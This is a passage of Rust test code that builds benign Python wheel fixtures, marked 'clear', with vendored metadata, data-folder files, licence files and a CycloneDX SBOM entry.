            ("demo-1.0.dist-info/METADATA", METADATA),
            ("demo/_vendor/attrs-23.1.0.dist-info/METADATA", b"Metadata-Version: 2.1\nName: attrs\nVersion: 23.1.0\n"),
        ],
    );
    clear(
        "data-folder",
        &[
            ("demo-1.0.data/data/share/man/man1/demo.1", b".TH DEMO 1\n"),
            ("demo-1.0.data/headers/demo.h", b"int demo(void);\n"),
        ],
    );
    clear("licences", &[("demo-1.0.dist-info/licenses/LICENSE", b"MIT\n"), ("demo-1.0.dist-info/zip-safe", b"\n")]);
    clear("sbom", &[("demo-1.0.dist-info/sboms/demo.cdx.json", b"{\"bomFormat\":\"CycloneDX\"}\n")]);
    cases.all
}
